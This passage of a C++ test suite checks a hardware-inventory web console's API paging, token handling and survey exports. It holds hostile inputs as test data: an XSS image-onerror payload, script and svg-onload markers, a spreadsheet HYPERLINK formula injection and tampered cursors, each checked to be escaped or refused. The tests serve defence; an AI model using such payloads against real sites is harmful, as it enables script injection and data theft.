    entries = auditOf(actor);
    ASSERT_EQ(entries.size(), 2u);
    EXPECT_EQ(entries[0].target, "GET /api/v1/survey");
    EXPECT_EQ(entries[0].detail, "6 requests since the last entry") << "four more, the bad id and this one";
    const auto stored = store_->apiTokenWithHash(console::apiTokenHash(token.substr(7)));
    ASSERT_TRUE(stored);
    EXPECT_EQ(stored->lastUsedMs, kStart + 60000);
}

TEST_P(ConsoleTest, ApiPagesTheMachinesWithAnOpaqueCursorThatKeepsItsSearchAndOrder) {
    const std::string token = "Bearer " + issueToken(*store_, "pager-" + prefix_, storage::Role::Viewer);
    const auto get = [&](const std::string& target) { return console_(apiRequest(target, token)); };
    // What the store lists for this search and order, whole.
    storage::MachineQuery whole;
    whole.sort = storage::MachineSort::Model;
    whole.descending = false;
    whole.limit = 1000;
    std::vector<std::int64_t> expected;
    for (const auto& m : store_->machines(whole).machines) expected.push_back(m.id);
    ASSERT_GE(expected.size(), 3u);

    std::vector<std::int64_t> walked;
    std::string target = "/api/v1/machines?sort=model&dir=asc&limit=2";
    for (int pages = 0; pages < 1000; ++pages) {
        const Response r = get(target);
        ASSERT_EQ(r.status, 200) << r.body;
        const auto body = nlohmann::json::parse(r.body);
        EXPECT_LE(body["machines"].size(), 2u);
        EXPECT_EQ(body["total"], expected.size());
        for (const auto& m : body["machines"]) walked.push_back(m["id"]);
        if (body["next"].is_null()) break;
        // The cursor alone carries the order: asking with another one changes nothing.
        target = "/api/v1/machines?limit=2&sort=memory&dir=desc&cursor=" + body["next"].get<std::string>();
    }
    EXPECT_EQ(walked, expected);

    // A search is kept by the cursor too.
    const auto searched = nlohmann::json::parse(get("/api/v1/machines?q=Dell&limit=1").body);
    EXPECT_EQ(searched["machines"].size(), 1u);
    if (!searched["next"].is_null()) {
        const auto second = nlohmann::json::parse(get("/api/v1/machines?cursor=" + searched["next"].get<std::string>()).body);
        EXPECT_EQ(second["total"], searched["total"]);
    }

    const std::string machine = std::to_string(machineOf("workstation, first scan"));
    const auto scans = nlohmann::json::parse(get("/api/v1/machines/" + machine + "/scans?limit=1").body);
    ASSERT_TRUE(scans["next"].is_string());
    const std::string scansCursor = scans["next"];
    const std::string tampered = console::base64Url(R"({"v":2,"scope":"machines","q":"","s":"nonsense","d":true,"u":"","o":-1})");
    struct Bad {
        std::string target;
        const char* code;
    };
    const Bad bad[] = {
        {"/api/v1/machines?cursor=not-a-cursor!", "bad_cursor"},
        {"/api/v1/machines?cursor=" + console::base64Url("[]"), "bad_cursor"},
        {"/api/v1/machines?cursor=" + tampered, "bad_cursor"},
        // A place whose value is not of the sort's kind (seen is a time, a number).
        {"/api/v1/machines?cursor=" + console::base64Url(R"({"v":2,"scope":"machines","q":"","s":"seen","d":true,"u":"","o":0,"k":{"v":"x","id":1}})"), "bad_cursor"},
        // A cursor of the receivers before places, which counted rows.
        {"/api/v1/machines?cursor=" + console::base64Url(R"({"v":1,"scope":"machines","q":"","s":"seen","d":true,"u":"","o":50})"), "bad_cursor"},
        {"/api/v1/machines?cursor=" + scansCursor, "bad_cursor"},
        {"/api/v1/machines/" + std::to_string(machineOf("PowerEdge R630")) + "/scans?cursor=" + scansCursor, "bad_cursor"},
        {"/api/v1/machines?limit=0", "bad_limit"},
        {"/api/v1/machines?limit=501", "bad_limit"},
        {"/api/v1/machines?limit=ten", "bad_limit"},
        {"/api/v1/machines?sort=price", "bad_sort"},
        {"/api/v1/machines?dir=up", "bad_dir"},
        {"/api/v1/machines?unseen=2026-02-30", "bad_date"},
        {"/api/v1/machines?q=" + std::string(201, 'x'), "bad_search"},
    };
    for (const Bad& b : bad) {
        SCOPED_TRACE(b.target.substr(0, 120));
        const Response r = get(b.target);
        EXPECT_EQ(r.status, 400);
        EXPECT_EQ(errorCode(r), b.code);
    }
    EXPECT_EQ(get("/api/v1/machines?limit=500").status, 200);
}

// A cursor holds the place of the last row given, not a count of rows: a machine that
// arrives at the head of the list while a client walks it repeats nobody, and a machine
// deleted behind the client skips nobody.
TEST_P(ConsoleTest, ApiCursorNeitherRepeatsNorSkipsWhenTheListChangesBetweenPages) {
    const std::string token = "Bearer " + issueToken(*store_, "walker-" + prefix_, storage::Role::Viewer);
    const auto get = [&](const std::string& target) {
        const Response r = console_(apiRequest(target, token));
        EXPECT_EQ(r.status, 200) << r.body;
        return nlohmann::json::parse(r.body);
    };
    struct Added {
        storage::Store& store;
        std::vector<std::int64_t> ids;
        ~Added() {
            for (const auto id : ids) store.deleteMachine(id, {});
        }
    } added{*store_, {}};
    MachineWmi m = workstation();
    const auto add = [&](int i, std::int64_t atMs) {
        m.serial = "WALK" + prefix_ + "-" + std::to_string(i);
        m.uuid = "33333333-4444-5555-6666-" + std::to_string(100000000000LL + i);
        const auto id = store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", m), atMs)).machineId;
        added.ids.push_back(id);
        return id;
    };
    // Three of this test's own machines, seen last of all (newest first is the default
    // order), so that the first page is theirs whatever else the database holds.
    const std::int64_t late = 4'000'000'000'000LL;
    const auto third = add(1, late), second = add(2, late + 1), first = add(3, late + 2);

    const auto page1 = get("/api/v1/machines?limit=2");
    ASSERT_EQ(page1["machines"].size(), 2u);
    EXPECT_EQ(page1["machines"][0]["id"], first);
    EXPECT_EQ(page1["machines"][1]["id"], second);
    ASSERT_TRUE(page1["next"].is_string());
    // Meanwhile a newer machine arrives and the first one given is deleted: counted rows
    // would shift by one either way.
    add(4, late + 3);
    ASSERT_TRUE(store_->deleteMachine(first, {}));
    const auto page2 = get("/api/v1/machines?limit=2&cursor=" + page1["next"].get<std::string>());
    ASSERT_FALSE(page2["machines"].empty());
    EXPECT_EQ(page2["machines"][0]["id"], third);
}

TEST_P(ConsoleTest, ApiGivesMachinesScansReportsChangesAndTheSurvey) {
    const std::string token = "Bearer " + issueToken(*store_, "reader-" + prefix_, storage::Role::Viewer);
    const auto get = [&](const std::string& target) { return console_(apiRequest(target, token)); };
    const auto a = scanOf("workstation, first scan"), b = scanOf("workstation, module moved and disk replaced");
    const auto machine = machineOf("workstation, first scan");
    const auto received = report::receiveSealed(seeds()[0].sealed).report;

    const auto one = nlohmann::json::parse(get("/api/v1/machines/" + std::to_string(machine)).body);
    const auto stored = store_->machine(machine);
    ASSERT_TRUE(stored);
    EXPECT_EQ(one["machine"]["id"], machine);
    EXPECT_EQ(one["machine"]["columns"]["model"], stored->latest.model);
    EXPECT_EQ(one["machine"]["columns"]["memoryBytes"], stored->latest.memoryBytes);
    EXPECT_EQ(one["machine"]["scanCount"], stored->scanCount);
    EXPECT_TRUE(one["notes"].is_array());

    const auto scans = nlohmann::json::parse(get("/api/v1/machines/" + std::to_string(machine) + "/scans").body);
    // The machine's scans as the store lists them, newest first (the database may be shared:
    // other tests' scans of the same reports count too).
    ASSERT_EQ(scans["scans"].size(), stored->scanCount);
    const auto rows = store_->scans(machine);
    for (std::size_t i = 0; i < rows.size(); ++i) {
        EXPECT_EQ(scans["scans"][i]["id"], rows[i].id);
        if (i > 0) {
            EXPECT_LE(scans["scans"][i]["receivedAtMs"], scans["scans"][i - 1]["receivedAtMs"]);
        }
    }
    EXPECT_TRUE(scans["next"].is_null());

    const auto scan = nlohmann::json::parse(get("/api/v1/scans/" + std::to_string(a)).body);
    EXPECT_EQ(scan["scan"]["id"], a);
    EXPECT_EQ(scan["scan"]["receipt"], store_->scan(a)->row.receipt);
    EXPECT_EQ(scan["summary"]["model"], "Precision WorkStation 390");
    EXPECT_EQ(scan["summary"]["memory"].size(), 4u);

    const Response raw = get("/api/v1/scans/" + std::to_string(a) + "/report");
    EXPECT_EQ(raw.status, 200);
    EXPECT_EQ(headerOf(raw, "Content-Type"), "application/xml; charset=" + store_->scan(a)->row.encoding);
    EXPECT_EQ(raw.body, received.reportBytes);
    const Response utf8 = get("/api/v1/scans/" + std::to_string(a) + "/report.xml");
    EXPECT_EQ(headerOf(utf8, "Content-Type"), "application/xml; charset=utf-8");
    EXPECT_EQ(utf8.body, received.text);
    EXPECT_EQ(headerOf(utf8, "Cache-Control"), "no-store");

    // From the first scan to the second: what the differ says, in that direction.
    const Response changes = get("/api/v1/diff?from=" + std::to_string(a) + "&to=" + std::to_string(b));
    ASSERT_EQ(changes.status, 200) << changes.body;
    // Compared with the summaries the API gives for the two scans (another test sharing the
    // database may have stored an edited one).
    const auto summaryOf = [&](std::int64_t id) {
        return report::summaryFromJson(nlohmann::json::parse(get("/api/v1/scans/" + std::to_string(id)).body)["summary"]);
    };
    const auto expected = report::diff(summaryOf(a), summaryOf(b));
    EXPECT_FALSE(expected.empty());
    EXPECT_EQ(nlohmann::json::parse(changes.body)["changes"], report::toJson(expected));
    EXPECT_EQ(nlohmann::json::parse(changes.body)["machineId"], machine);
    EXPECT_NE(changes.body.find("05176522"), std::string::npos) << "the moved module";

    const auto survey = nlohmann::json::parse(get("/api/v1/survey?top=3").body);
    EXPECT_EQ(survey["machines"], store_->machines({}).total);
    for (const auto& [name, values] : survey["dimensions"].items()) EXPECT_LE(values.size(), 5u) << name;

    struct Refusal {
        std::string target;
        int status;
        const char* code;
    };
    const std::string other = std::to_string(scanOf("PowerEdge R630"));
    const Refusal refusals[] = {
        {"/api/v1/machines/abc", 400, "bad_id"},
        {"/api/v1/machines/-1", 400, "bad_id"},
        {"/api/v1/machines/99999999999999999999", 400, "bad_id"},
        {"/api/v1/machines/99999999", 404, "not_found"},
        {"/api/v1/machines/99999999/scans", 404, "not_found"},
        {"/api/v1/scans/1e3", 400, "bad_id"},
        {"/api/v1/scans/99999999", 404, "not_found"},
        {"/api/v1/scans/99999999/report", 404, "not_found"},
        {"/api/v1/scans/x/report.xml", 400, "bad_id"},
        {"/api/v1/diff?from=" + std::to_string(a), 400, "missing_parameter"},
        {"/api/v1/diff?from=a&to=b", 400, "bad_id"},
        {"/api/v1/diff?from=" + std::to_string(a) + "&to=" + other, 400, "different_machines"},
        {"/api/v1/diff?from=" + std::to_string(a) + "&to=99999999", 404, "not_found"},
        {"/api/v1/survey?since=2026-13-01", 400, "bad_date"},
        {"/api/v1/survey?since=2026-12-02&until=2026-12-01", 400, "bad_period"},
        {"/api/v1/survey?top=0", 400, "bad_top"},
        {"/api/v1/survey?top=101", 400, "bad_top"},
        {"/api/v1/scans", 404, "not_found"},
        {"/api/v1/", 404, "not_found"},
        {"/api/v2/machines", 404, "not_found"},
        {"/api/v1/machines//scans", 404, "not_found"},
    };
    for (const Refusal& r : refusals) {
        SCOPED_TRACE(r.target);
        const Response answer = get(r.target);
        EXPECT_EQ(answer.status, r.status) << answer.body;
        EXPECT_EQ(errorCode(answer), r.code);
        EXPECT_EQ(headerOf(answer, "Content-Type"), "application/json");
    }
    const Response post = console_(apiRequest("/api/v1/machines", token, {}, "POST"));
    EXPECT_EQ(post.status, 405);
    EXPECT_EQ(errorCode(post), "method_not_allowed");
    EXPECT_EQ(headerOf(post, "Allow"), "GET, HEAD");
}

TEST_P(ConsoleTest, AnAdminMakesATokenSeenOnceAndRevokesIt) {
    const std::string admin = signIn();
    const std::string form = "token=" + formTokenOf(admin);
    const std::string name = "sync-" + prefix_;
    const Response made = console_(request("POST", "/tokens", admin, form + "&name=" + name + "&role=viewer&days=30"));
    ASSERT_EQ(made.status, 201) << made.body;
    std::smatch shown;
    ASSERT_TRUE(std::regex_search(made.body, shown, std::regex("id=\"new-token-value\">(grvt_[A-Za-z0-9_-]{43})<")));
    const std::string token = shown[1];
    EXPECT_EQ(headerOf(made, "Cache-Control"), "no-store");
    EXPECT_EQ(console_(apiRequest("/api/v1/machines", "Bearer " + token)).status, 200);
    // Listed afterwards without the token itself.
    const std::string listed = console_(request("GET", "/tokens", admin)).body;
    EXPECT_NE(listed.find("<bdi>" + name + "</bdi>"), std::string::npos);
    EXPECT_EQ(listed.find(token), std::string::npos);
    const auto stored = store_->apiTokenWithHash(console::apiTokenHash(token));
    ASSERT_TRUE(stored);
    EXPECT_EQ(stored->createdBy, user_);
    EXPECT_EQ(stored->expiresAtMs, kStart + 30 * 86400000LL);

    struct Refused {
        std::string body;
        int status;
    };
    const Refused refused[] = {
        {"&name=" + name + "&role=viewer&days=1", 409},
        {"&name=bad%20name&role=viewer&days=1", 400},
        {"&name=x-" + prefix_ + "&role=root&days=1", 400},
        {"&name=x-" + prefix_ + "&role=admin&days=-1", 400},
        {"&name=x-" + prefix_ + "&role=admin&days=99999", 400},
    };
    for (const Refused& r : refused) {
        const Response answer = console_(request("POST", "/tokens", admin, form + r.body));
        EXPECT_EQ(answer.status, r.status) << r.body;
        EXPECT_EQ(answer.body.find("new-token-value"), std::string::npos) << r.body;
    }
    EXPECT_FALSE(store_->apiTokenWithHash(console::apiTokenHash("x-" + prefix_))) << "nothing made by a refusal";

    EXPECT_EQ(console_(request("POST", "/tokens/revoke", admin, form + "&name=" + name)).status, 303);
    const Response after = console_(apiRequest("/api/v1/machines", "Bearer " + token));
    EXPECT_EQ(after.status, 401);
    EXPECT_EQ(errorCode(after), "token_revoked");
    const auto added = auditOf(user_, std::string(storage::audit::kTokenAdded));
    ASSERT_EQ(added.size(), 1u) << "refused ones are not recorded";
    EXPECT_EQ(added[0].target, "token " + name);
    EXPECT_EQ(added[0].detail.find(token), std::string::npos);
    EXPECT_EQ(auditOf(user_, std::string(storage::audit::kTokenRevoked)).size(), 1u);
}

// ---- the survey ----

// The period the seeds fall in: from two days before the tests' start to its day.
struct SeedPeriod {
    std::string since = survey::dayText(kStart - 2 * 86400000LL), until = survey::dayText(kStart);
    std::string query() const { return "since=" + since + "&until=" + until; }
    survey::Period period() const {
        return {*server::utcDayStartMs(since), *server::utcDayStartMs(until) + 86400000LL};
    }
};

TEST_P(ConsoleTest, SurveyPageChartsEveryDimensionBesideItsTableAndLinksNamedValues) {
    const std::string viewer = signInAs("vera-" + prefix_, storage::Role::Viewer);
    const SeedPeriod seeds;
    const Response r = console_(request("GET", "/survey?" + seeds.query(), viewer));
    ASSERT_EQ(r.status, 200) << r.body;
    const std::string& body = r.body;
    // The survey the page must show, read from the store as the command reads it.
    const survey::Survey expected = survey::surveyOfStore(*store_, seeds.period(), 10);
    ASSERT_GT(expected.machines, 0u);
    EXPECT_NE(body.find(console::grouped(expected.machines) + " machines"), std::string::npos);
    EXPECT_NE(body.find("<a href=\"/survey\">Survey</a>"), std::string::npos);
    std::size_t bars = 0;
    for (std::size_t d = 0; d < report::survey::kDimensionCount; ++d) {
        const std::string name(report::survey::kDimensionNames[d]);
        EXPECT_NE(body.find("id=\"" + name + "\""), std::string::npos) << name;
        for (const auto& item : expected.dimensions[d]) {
            ++bars;
            const std::string href = "/machines?q=" + console::urlEncode(console::valueSearch(name, item.value));
            const bool named = item.value != "other" && item.value != "unknown";
            EXPECT_EQ(body.find("<a href=\"" + href + "\">") != std::string::npos, named) << name << " " << item.value;
        }
    }
    // One bar per table row, in every chart.
    EXPECT_EQ(count(body, "<g class=\"bar\">"), bars);
    EXPECT_EQ(count(body, "<svg class=\"bars\""), report::survey::kDimensionCount);
    // Each followed dimension's trend, with the month the period ends in last.
    EXPECT_EQ(count(body, "<svg class=\"trend\""), std::size(survey::kTrendDimensions));
    EXPECT_NE(body.find(survey::monthText(survey::calendarMonthOf(kStart)) + "</th>"), std::string::npos);
    // The reports' hostile values are text, in the tables and in the charts alike.
    for (const char* raw : {"<img", "<script", "<svg onload", "<style>body"}) {
        EXPECT_EQ(withoutConsoleScript(body).find(raw), std::string::npos) << raw;
    }
    EXPECT_NE(body.find("&lt;img src=x onerror=&quot;window.__gravelinPwned=4&quot;&gt;"), std::string::npos);
    // A direction override stays inside its label in the chart.
    EXPECT_NE(body.find("\u2068Acme\u202E Systems\u2069"), std::string::npos);

    // A month by its name; what cannot be read is said, and this month shown.
    const std::string month = survey::monthText(survey::calendarMonthOf(kStart));
    const Response byMonth = console_(request("GET", "/survey?month=" + month, viewer));
    EXPECT_EQ(byMonth.status, 200);
    EXPECT_NE(byMonth.body.find("value=\"" + month + "\""), std::string::npos);
    EXPECT_NE(byMonth.body.find("href=\"/survey.csv?month=" + month + "\""), std::string::npos);
    for (const std::string query : {"month=2026-13", "since=2026-12-05&until=2026-12-01", "since=yesterday",
                                    "until=2026-02-30"}) {
        const Response bad = console_(request("GET", "/survey?" + query, viewer));
        EXPECT_EQ(bad.status, 200) << query;
        EXPECT_NE(bad.body.find("class=\"alert\""), std::string::npos) << query;
        EXPECT_NE(bad.body.find("href=\"/survey.csv?month=" + month + "\""), std::string::npos) << query;
    }
    EXPECT_EQ(console_(request("GET", "/survey")).status, 303);
}

TEST_P(ConsoleTest, SurveyDownloadsAreAuditedSafeForSpreadsheetsAndTheSnapshotNamesNoMachine) {
    const std::string cookie = signIn();
    const SeedPeriod seeds;
    const survey::Survey expected = survey::surveyOfStore(*store_, seeds.period(), 10);

    const Response csv = console_(request("GET", "/survey.csv?" + seeds.query(), cookie));
    ASSERT_EQ(csv.status, 200);
    EXPECT_EQ(headerOf(csv, "Content-Disposition"), "attachment; filename=\"survey-" + seeds.since + ".csv\"");
    EXPECT_TRUE(csv.body.starts_with("\xEF\xBB\xBF" "dimension,value,machines,share,change\r\n"));
    std::size_t values = 0;
    for (const auto& dimension : expected.dimensions) values += dimension.size();
    EXPECT_EQ(count(csv.body, "\r\n"), values + 1);
    // The hostile maker is a value, not a formula.
    EXPECT_NE(csv.body.find("maker,\"'=HYPERLINK("), std::string::npos) << csv.body;
    EXPECT_EQ(csv.body.find(",=HYPERLINK"), std::string::npos);

    const Response one = console_(request("GET", "/survey.json?" + seeds.query() + "&dimension=os", cookie));
    ASSERT_EQ(one.status, 200);
    const auto json = nlohmann::json::parse(one.body);
    EXPECT_EQ(json["machines"], expected.machines);
    ASSERT_EQ(json["dimensions"].size(), 1u);
    EXPECT_EQ(json["dimensions"]["os"].size(), expected.dimensions[0].size());
    const Response oneCsv = console_(request("GET", "/survey.csv?" + seeds.query() + "&dimension=disk_kind", cookie));
    EXPECT_EQ(count(oneCsv.body, "\r\n"), expected.dimensions[11].size() + 1);
    EXPECT_EQ(count(oneCsv.body, "\r\ndisk_kind,"), expected.dimensions[11].size());
    EXPECT_EQ(console_(request("GET", "/survey.json?dimension=serial", cookie)).status, 400);
    EXPECT_EQ(console_(request("GET", "/survey.csv?month=13", cookie)).status, 400);

    const Response snapshot = console_(request("GET", "/survey.html?" + seeds.query(), cookie));
    ASSERT_EQ(snapshot.status, 200);
    EXPECT_TRUE(headerOf(snapshot, "Content-Type").starts_with("text/html"));
    EXPECT_TRUE(headerOf(snapshot, "Content-Disposition").starts_with("attachment;"));
    // None of the seeds' serial numbers, UUIDs or receipts; no value of fewer than five.
    for (const auto& [name, ids] : ids_) {
        const auto record = store_->scan(ids.scanId);
        ASSERT_TRUE(record);
        EXPECT_EQ(snapshot.body.find(record->row.receipt), std::string::npos) << name;
    }
    for (const char* secret : {"7TQCK2J", "4C4C4544", "9RY0WB8K", "onerror", "HYPERLINK", "Acme"}) {
        EXPECT_EQ(snapshot.body.find(secret), std::string::npos) << secret;
    }

    // Without a session the downloads answer 401, as every export.
    for (const char* path : {"/survey.csv", "/survey.json"}) {
        EXPECT_EQ(console_(request("GET", path)).status, 401) << path;
    }
    std::vector<std::string> targets;
    for (const auto& entry : auditOf(user_, std::string(storage::audit::kExport))) {
        targets.push_back(entry.target);
        if (entry.target == "survey.html") {
            EXPECT_EQ(entry.detail, seeds.since + " to " + seeds.until + ", snapshot to publish");
        }
    }
    // Newest first; the refused ones are not given, so not written.
    EXPECT_EQ(targets, (std::vector<std::string>{"survey.html", "survey.csv", "survey.json", "survey.csv"}));
}

INSTANTIATE_TEST_SUITE_P(Engines, ConsoleTest, ::testing::Values("memory", "sqlite", "postgresql"),
                         [](const ::testing::TestParamInfo<std::string>& engine) { return engine.param; });

}  // namespace
}  // namespace gravelin::testing
